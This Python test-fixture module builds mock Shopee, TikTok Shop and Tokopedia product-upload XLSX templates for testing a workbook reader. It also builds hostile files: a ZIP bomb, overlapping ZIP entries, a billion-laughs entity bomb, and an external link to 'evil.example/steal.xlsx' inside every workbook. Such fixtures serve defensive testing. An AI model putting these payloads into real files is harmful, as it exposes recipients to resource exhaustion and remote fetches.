"""Seller centre templates built in memory for the workbook tests, shaped like the public copies
the reference notes describe (the official files are downloaded per shop and cannot be fetched):

- Shopee's basic template: sheet "Template", row 1 system keys with '|0|0' suffixes, row 2
  'basic' and a token, rows 3-6 names, Wajib/Opsional and guidance, data from row 7 (an older
  one from row 6), the weight header in grams, kg or neither;
- TikTok Shop's batch template: row 1 system keys, rows 2-5 names and guidance, data from row
  6, in two column orders (one with gtin_type and gtin_code after image_9);
- Tokopedia's Tambah Produk Massal: sheet "ISI Template Impor Produk", headers on row 2,
  guidance on row 3, data from row 4, in 20-, 22- and 23-column versions;
with drop-down lists inline, on a hidden category list sheet, through a defined name and as x14
validations written as raw XML, plus hostile files (not a ZIP, a ZIP bomb, an entity bomb).
Strings are shared strings, as Excel writes them; everything is deterministic.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape, quoteattr

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
SHEET_TYPE = f"{RELS}/worksheet"
TOKEN = "3b35da8ca9eeb491f02729b66fb6e8f7"


def letters(number: int) -> str:
    """Return a column's letters (1 -> A)."""
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


@dataclass
class Sheet:
    """One worksheet: rows of values from column A, drop-down lists, how it is written."""

    name: str
    rows: Mapping[int, Sequence[Any]]
    lists: Sequence[tuple[str, str]] = ()  # (sqref, formula): classic <dataValidations>
    x14: Sequence[tuple[str, str]] = ()  # (sqref, formula): x14 inside <extLst>, raw XML
    hidden: bool = False
    prefix: str = ""  # write the main namespace with this prefix ("x")
    cols: str = ""  # raw <col> elements
    styled: Mapping[int, int] = field(default_factory=dict)  # empty rows: row -> styled cells


class Strings:
    """The shared strings table, in first-use order."""

    def __init__(self) -> None:
        self.items: list[str] = []

    def index(self, text: str) -> int:
        """Return a text's index, adding it once."""
        if text not in self.items:
            self.items.append(text)
        return self.items.index(text)

    def xml(self) -> bytes:
        """Return sharedStrings.xml."""
        items = "".join(f'<si><t xml:space="preserve">{escape(t)}</t></si>' for t in self.items)
        return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{MAIN}" '
                f'count="{len(self.items)}" uniqueCount="{len(self.items)}">{items}</sst>'
                ).encode()


def cell(prefix: str, ref: str, value: Any, strings: Strings) -> str:
    """Return one cell: numbers as numbers, text as a shared string."""
    if value is None or value == "":
        return ""
    if isinstance(value, int | float):
        return f'<{prefix}c r="{ref}"><{prefix}v>{value}</{prefix}v></{prefix}c>'
    index = strings.index(str(value))
    return f'<{prefix}c r="{ref}" t="s"><{prefix}v>{index}</{prefix}v></{prefix}c>'


def sheet_xml(sheet: Sheet, strings: Strings) -> bytes:
    """Return a worksheet's XML, with its lists as classic and x14 validations."""
    p = f"{sheet.prefix}:" if sheet.prefix else ""
    ns = f'xmlns:{sheet.prefix}="{MAIN}"' if sheet.prefix else f'xmlns="{MAIN}"'
    rows = []
    for number in sorted({*sheet.rows, *sheet.styled}):
        values = sheet.rows.get(number, ())
        cells = "".join(cell(p, f"{letters(i)}{number}", v, strings)
                        for i, v in enumerate(values, start=1))
        cells += "".join(f'<{p}c r="{letters(i)}{number}" s="1"/>'
                         for i in range(1, sheet.styled.get(number, 0) + 1))
        rows.append(f'<{p}row r="{number}" spans="1:60">{cells}</{p}row>')
    width = max((len(v) for v in sheet.rows.values()), default=1)
    height = max(sheet.rows, default=1)
    parts = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<{p}worksheet {ns} '
             f'xmlns:r="{RELS}"><{p}dimension ref="A1:{letters(max(width, 1))}{height}"/>',
             f"<{p}sheetViews><{p}sheetView workbookViewId=\"0\"/></{p}sheetViews>",
             f'<{p}sheetFormatPr defaultRowHeight="15"/>']
    if sheet.cols:
        parts.append(f"<{p}cols>{sheet.cols.replace('<col ', f'<{p}col ')}</{p}cols>")
    parts.append(f"<{p}sheetData>{''.join(rows)}</{p}sheetData>")
    if sheet.lists:
        items = "".join(f'<{p}dataValidation type="list" allowBlank="1" showErrorMessage="1" '
                        f'sqref="{sqref}"><{p}formula1>{escape(formula)}</{p}formula1>'
                        f"</{p}dataValidation>" for sqref, formula in sheet.lists)
        parts.append(f'<{p}dataValidations count="{len(sheet.lists)}">{items}'
                     f"</{p}dataValidations>")
    parts.append(f'<{p}pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" '
                 f'header="0.3" footer="0.3"/>')
    if sheet.x14:
        items = "".join(f'<x14:dataValidation type="list" allowBlank="1" showErrorMessage="1">'
                        f"<x14:formula1><xm:f>{escape(formula)}</xm:f></x14:formula1>"
                        f"<xm:sqref>{sqref}</xm:sqref></x14:dataValidation>"
                        for sqref, formula in sheet.x14)
        parts.append(f'<{p}extLst><{p}ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" '
                     f'xmlns:x14="{X14}"><x14:dataValidations count="{len(sheet.x14)}" '
                     f'xmlns:xm="{XM}">{items}</x14:dataValidations></{p}ext></{p}extLst>')
    parts.append(f"</{p}worksheet>")
    return "".join(parts).encode()


STYLES = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{MAIN}">'
          '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
          '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill '
          'patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/>'
          '<bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" '
          'fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" '
          'fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="49" fontId="0" fillId="0" '
          'borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs><cellStyles count="1"><cellStyle '
          'name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>').encode()


def workbook(*sheets: Sheet, names: Mapping[str, str] | None = None,
             workbook_xml: bytes | None = None) -> bytes:
    """Return an XLSX holding sheets (tab order), defined names and shared strings."""
    strings = Strings()
    parts = {f"xl/worksheets/sheet{n}.xml": sheet_xml(s, strings)
             for n, s in enumerate(sheets, start=1)}
    tabs = "".join(f'<sheet name={quoteattr(s.name)} sheetId="{n}" r:id="rId{n}"'
                   + (' state="hidden"' if s.hidden else "") + "/>"
                   for n, s in enumerate(sheets, start=1))
    defined = "".join(f"<definedName name={quoteattr(k)}>{escape(v)}</definedName>"
                      for k, v in (names or {}).items())
    book = workbook_xml or (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN}" '
        f'xmlns:r="{RELS}"><sheets>{tabs}</sheets>'
        + (f"<definedNames>{defined}</definedNames>" if defined else "") + "</workbook>").encode()
    count = len(sheets)
    links = "".join(f'<Relationship Id="rId{n}" Type="{SHEET_TYPE}" '
                    f'Target="worksheets/sheet{n}.xml"/>' for n in range(1, count + 1))
    links += (f'<Relationship Id="rId{count + 1}" Type="{RELS}/styles" Target="styles.xml"/>'
              f'<Relationship Id="rId{count + 2}" Type="{RELS}/sharedStrings" '
              f'Target="sharedStrings.xml"/>'
              f'<Relationship Id="rId{count + 3}" Type="{RELS}/externalLink" '
              f'Target="https://evil.example/steal.xlsx" TargetMode="External"/>')
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in range(1, count + 1))
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://'
            'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
            'Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main'
            '+xml"/>' + overrides + '<Override PartName="/xl/styles.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/><Override PartName="/xl/'
            'sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sharedStrings+xml"/></Types>').encode(),
        "_rels/.rels": (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                        f'xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" Type="{RELS}/'
                        'officeDocument" Target="xl/workbook.xml"/></Relationships>').encode(),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                                       f'\n<Relationships xmlns="{PACKAGE_RELS}">{links}'
                                       "</Relationships>").encode(),
        "xl/styles.xml": STYLES, **parts, "xl/sharedStrings.xml": strings.xml(),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, (2026, 9, 7, 10, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


# --- Shopee -----------------------------------------------------------------------------------

SHOPEE = [  # (key row cell, row 3 name, Wajib?) as the 2026 basic template's copies show them
    ("ps_category|0|0", "Kategori", False), ("ps_product_name|1|0", "Nama Produk", True),
    ("ps_product_description|1|0", "Deskripsi Produk", True),
    ("ps_maximum_purchase_quantity|0|0", "Maks. Jumlah Pembelian", False),
    ("ps_maximum_purchase_quantity_start_date|0|0", "Maks. Jumlah Pembelian - Tanggal Mulai",
     False),
    ("ps_maximum_purchase_quantity_time_period|0|0", "Maks. Jumlah Pembelian - Jumlah Hari",
     False),
    ("ps_maximum_purchase_quantity_end_date|0|0", "Maks. Jumlah Pembelian - Tanggal Berakhir",
     False),
    ("ps_minimum_purchase_quantity|0|0", "Min. Jumlah Pembelian", False),
    ("ps_sku_parent_short|0|0", "SKU Induk", False), ("ps_dangerous_goods|0|0",
                                                       "Produk Berbahaya", False),
    ("et_title_variation_integration_no|0|0", "Kode Integrasi Variasi", False),
    ("et_title_variation_1|0|0", "Nama Variasi 1", False),
    ("et_title_option_for_variation_1|0|0", "Varian untuk Variasi 1", False),
    ("et_title_image_per_variation|0|3", "Foto Produk per Varian", False),
    ("et_title_variation_2|0|0", "Nama Variasi 2", False),
    ("et_title_option_for_variation_2|0|0", "Varian untuk Variasi 2", False),
    ("ps_price|1|1", "Harga", True), ("ps_stock|0|1", "Stok", False),
    ("ps_sku_short|0|0", "Kode Variasi", False), ("ps_new_size_chart|0|1",
                                                   "Template Panduan Ukuran", False),
    ("et_title_size_chart|0|3", "Foto Panduan Ukuran", False), ("ps_gtin_code|0|0", "GTIN", False),
    ("ps_item_cover_image|1|3", "Foto Sampul", True),
    *((f"ps_item_image_{n}|0|3", f"Foto Produk {n}", False) for n in range(1, 9)),
    ("ps_weight|1|1", "Berat", True), ("ps_length|0|1", "Panjang", False),
    ("ps_width|0|1", "Lebar", False), ("ps_height|0|1", "Tinggi", False),
    ("channel_id.8001|0|0", "Same Day", False), ("channel_id.8002|0|0", "Next Day", False),
    ("channel_id.8003|0|0", "Reguler (Cashless)", False),
    ("channel_id.8005|0|0", "Hemat Kargo", False), ("channel_id.8007|0|0", "Instant", False),
    ("channel_id.8008|0|0", "Instant Prioritas", False),
    ("ps_product_pre_order_dts|0|1", "Dikirim Dalam Pre-order", False),
    ("et_title_reason|0|0", "Alasan Gagal", False),
]
SHOPEE_CATEGORIES = ["100043 - Kain Batik", "100044 - Kain Tenun", "100146 - Kemeja Pria"]


def shopee(*, weight: str = "Berat", weight_note: str = "", data_row: int = 7,
           drop: Sequence[str] = (), extra: Sequence[tuple[str, str]] = (), prefix: str = "",
           styled: Mapping[int, int] | None = None, stale: bool = False) -> bytes:
    """Return a Shopee basic template: keys, token row, names, Wajib/Opsional, guidance, lists."""
    spec = [(code, weight if code.startswith("ps_weight") else name, wajib)
            for code, name, wajib in SHOPEE if code.split("|")[0] not in drop]
    spec += [(code, name, False) for code, name in extra]
    column = {code.split("|")[0]: n for n, (code, _, _) in enumerate(spec, start=1)}
    guidance = ["Masukkan teks" if n % 3 == 0 else "" for n in range(len(spec))]
    if "ps_weight" in column:
        guidance[column["ps_weight"] - 1] = weight_note or "Masukkan berat paket"
    rows = {1: [code for code, _, _ in spec], 2: ["basic", TOKEN, "0", "391814440"],
            3: [name for _, name, _ in spec],
            4: ["Wajib" if wajib else "Opsional" for _, _, wajib in spec], 5: guidance}
    if data_row == 7:
        rows[6] = ["Contoh: isi sesuai petunjuk"] + [""] * (len(spec) - 1)
    if stale:
        rows[data_row + 2] = ["", "Produk lama yang tertinggal"]
    end = data_row + 993
    couriers = [n for key, n in column.items() if key.startswith("channel_id.")]
    lists = [(f"{letters(min(couriers))}{data_row}:{letters(max(couriers))}{end}",
              '"Aktif,Nonaktif"')] if couriers else []
    if "ps_dangerous_goods" in column:
        lists.append((f"{letters(column['ps_dangerous_goods'])}{data_row}:"
                       f"{letters(column['ps_dangerous_goods'])}{end}", "Berbahaya"))
    x14 = [(f"A{data_row}:A{end}", "'Sheet 2'!$A$1:$A$900")] if "ps_category" in column else []
    template = Sheet("Template", rows, lists, x14, prefix=prefix, styled=styled or {},
                     cols='<col min="1" max="3" width="20" style="1" customWidth="1"/>')
    categories = Sheet("Sheet 2", {n: [v] for n, v in enumerate(SHOPEE_CATEGORIES, 1)},
                       hidden=True)
    choices = Sheet("Pilihan", {1: ["No (ID)"], 2: ["Yes (ID)"]}, hidden=True)
    return workbook(template, categories, choices, names={"Berbahaya": "Pilihan!$A$1:$A$2"})


def shopee_old() -> bytes:
    """Return an older Shopee basic template: no purchase limits, data from row 6."""
    return shopee(data_row=6, drop=(
        "ps_maximum_purchase_quantity", "ps_maximum_purchase_quantity_start_date",
        "ps_maximum_purchase_quantity_time_period", "ps_maximum_purchase_quantity_end_date",
        "ps_minimum_purchase_quantity", "ps_new_size_chart", "et_title_size_chart",
        "ps_product_pre_order_dts"), extra=(("ps_size_chart|0|1", "Panduan Ukuran"),))


# --- TikTok Shop ------------------------------------------------------------------------------

TIKTOK_T1 = ["category", "brand", "product_name", "product_description", "main_image",
             *(f"image_{n}" for n in range(2, 10)), "property_name_1", "property_value_1",
             "property_1_image", "property_name_2", "property_value_2", "parcel_weight",
             "parcel_length", "parcel_width", "parcel_height", "delivery", "price",
             "pre_order_time", "quantity", "seller_sku", "size_chart"]
TIKTOK_T2 = [*TIKTOK_T1[:13], "gtin_type", "gtin_code", *TIKTOK_T1[13:]]
TIKTOK_NAMES = {"category": "Category", "brand": "Brand", "product_name": "Product Name",
                "product_description": "Product Description", "main_image": "Main Product Image",
                "parcel_weight": "Parcel Weight(g)", "price": "Retail Price (Local Currency)",
                "quantity": "Quantity", "seller_sku": "Seller SKU"}
TIKTOK_REQUIRED = {"category", "product_name", "product_description", "main_image", "price",
                   "quantity", "parcel_weight"}
TIKTOK_CATEGORIES = ["600001/Kain Batik", "600002/Kemeja Batik", "600003/Tas Anyaman"]


def tiktok(*, order: Sequence[str] = TIKTOK_T1, weight_name: str | None = None) -> bytes:
    """Return a TikTok Shop batch template: codes row 1, names, Mandatory/Optional, guidance;
    with the T2 order, row 5 is empty and the data's lists begin on row 6."""
    names = {**TIKTOK_NAMES, **({"parcel_weight": weight_name} if weight_name else {})}
    rows = {1: list(order), 2: [names.get(key, key.replace("_", " ").title()) for key in order],
            3: ["Mandatory" if key in TIKTOK_REQUIRED else "Optional" for key in order],
            4: ["Choose from the list" if key == "category" else "" for key in order]}
    if order is TIKTOK_T1:
        rows[5] = ["Example: 600001/Kain Batik"]
    category = letters(order.index("category") + 1)
    template = Sheet("Template", rows, x14=[(f"{category}6:{category}1005",
                                             "Category!$A$1:$A$500")])
    listing = Sheet("Category", {n: [v] for n, v in enumerate(TIKTOK_CATEGORIES, 1)},
                    hidden=True)
    return workbook(Sheet("Instructions", {1: ["Read me first"]}), template, listing)


# --- Tokopedia --------------------------------------------------------------------------------

TOKOPEDIA_23 = ["Pesan Error", "Nama Produk*", "Deskripsi Produk", "Kode Kategori*",
                "Berat* (Gram)", "Minimum Pemesanan*", "Nomor Etalase", "Waktu Proses Preorder",
                "Kondisi*", "Foto Produk 1*", *(f"Foto Produk {n}" for n in range(2, 6)),
                *(f"URL Video Produk {n}" for n in range(1, 4)), "SKU Name", "Status*",
                "Jumlah Stok*", "Harga (Rp)*", "Kurir Pengiriman*", "Asuransi Pengiriman*"]
TOKOPEDIA_22 = ["Error Message", "Nama Produk*", "Deskripsi Produk", "Kategori Kode*",
                "Berat* (Gram)", "Minimum Pemesanan*", "Nomor Etalase", "Waktu Proses Preorder",
                "Kondisi*", "Gambar 1*", *(f"Gambar {n}" for n in range(2, 6)),
                *(f"URL Video Produk {n}" for n in range(1, 4)), "SKU Name", "Status*",
                "Jumlah Stok*", "Harga (Rp)*", "Asuransi Pengiriman"]
TOKOPEDIA_20 = [h for h in TOKOPEDIA_23 if not h.startswith("URL Video")]
TOKOPEDIA_20[2] = "Deskripsi Produk*"
TOKOPEDIA_GUIDANCE = {
    "Nama Produk*": "Masukkan nama produk (maks. 70 karakter). Untuk produk dengan varian, nama "
                    "produk harus diisi sama untuk semua varian.",
    "Berat* (Gram)": "Masukan berat produk dengan angka tanpa menggunakan koma dan titik.",
    "Kondisi*": "Pilih salah satu kondisi produk: Baru atau Bekas",
    "Status*": "Pilih status produk: Aktif atau Nonaktif.",
}
TOKOPEDIA_CODES = [1745, 1746, 1759]


def tokopedia(headers: Sequence[str] = TOKOPEDIA_23,
              categories: str = "Kategori!$A$2:$A$200") -> bytes:
    """Return a Tambah Produk Massal template: row 1 empty, headers on row 2, guidance on row 3,
    lists for Kondisi and Status inline and for the category code on a list sheet (or, given,
    another formula for it, such as an INDIRECT the reader never follows)."""
    rows = {2: list(headers),
            3: [TOKOPEDIA_GUIDANCE.get(h, "Isi sesuai petunjuk") for h in headers]}
    column = {h: letters(n) for n, h in enumerate(headers, start=1)}
    code = column.get("Kode Kategori*") or column["Kategori Kode*"]
    lists = [(f"{column['Kondisi*']}4:{column['Kondisi*']}1000", '"Baru,Bekas"'),
             (f"{column['Status*']}4:{column['Status*']}1000", '"Aktif,Nonaktif"'),
             (f"{code}4:{code}1000", categories)]
    template = Sheet("ISI Template Impor Produk", rows, lists)
    codes = Sheet("Kategori", {1: ["Kode"], **{n: [c] for n, c in enumerate(TOKOPEDIA_CODES, 2)}})
    return workbook(Sheet("Petunjuk", {1: ["Cara mengisi template"]}), template, codes,
                    Sheet("Daftar Etalase", {1: ["Kode", "Etalase"], 2: [11, "Kain"]}))


# --- hostile files ----------------------------------------------------------------------------

def zip_bomb() -> bytes:
    """Return a small ZIP whose one part unpacks to 160 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as part:
        chunk = b"\0" * (1 << 20)
        for _ in range(160):
            part.write(chunk)
    return buffer.getvalue()


def overlapping_entries(copies: int = 20) -> bytes:
    """Return a Shopee template with a stored 1 MB part that 20 more directory records point
    at, each declaring 1 byte: a filler copying entries one by one would write 21 MB."""
    source = zipfile.ZipFile(io.BytesIO(shopee()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info.filename))
        big = zipfile.ZipInfo("xl/media/big.bin", (2026, 1, 1, 0, 0, 0))
        archive.writestr(big, bytes(range(256)) * 4096, zipfile.ZIP_STORED)
    data = buffer.getvalue()
    end = data.rfind(b"PK\x05\x06")
    signature, disk, start, _here, _total, size, offset, _comment = struct.unpack(
        "<4s4H2LH", data[end:end + 22])
    records, position = [], offset
    while position < offset + size:
        name, extra, comment = struct.unpack("<3H", data[position + 28:position + 34])
        records.append(data[position:position + 46 + name + extra + comment])
        position += len(records[-1])

    def renamed(record: bytes, name: bytes) -> bytes:
        length = struct.unpack("<H", record[28:30])[0]
        head = bytearray(record[:46])
        head[24:28], head[28:30] = struct.pack("<L", 1), struct.pack("<H", len(name))
        return bytes(head) + name + record[46 + length:]

    records += [renamed(records[-1], f"xl/media/copy{n}.bin".encode()) for n in range(copies)]
    directory = b"".join(records)
    return data[:offset] + directory + struct.pack(
        "<4s4H2LH", signature, disk, start, len(records), len(records), len(directory), offset, 0)


def many_entries() -> bytes:
    """Return a ZIP of 1,500 tiny entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(1500):
            archive.writestr(f"xl/part{number}.xml", b"<a/>")
    return buffer.getvalue()


def entity_bomb() -> bytes:
    """Return a Shopee-shaped template whose workbook.xml expands entities (billion laughs)."""
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    book = (f'<?xml version="1.0"?>\n<!DOCTYPE workbook [<!ENTITY l0 "lol">{lol}]>'
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="&l9;" sheetId="1" '
            f'r:id="rId1"/></sheets></workbook>').encode()
    return workbook(Sheet("Template", {1: [code for code, _, _ in SHOPEE]}), workbook_xml=book)


def no_key_row() -> bytes:
    """Return a workbook whose Template sheet holds no known key anywhere."""
    return workbook(Sheet("Template", {1: ["Nama", "Harga", "Stok"], 2: ["Kain", 100, 2]}))
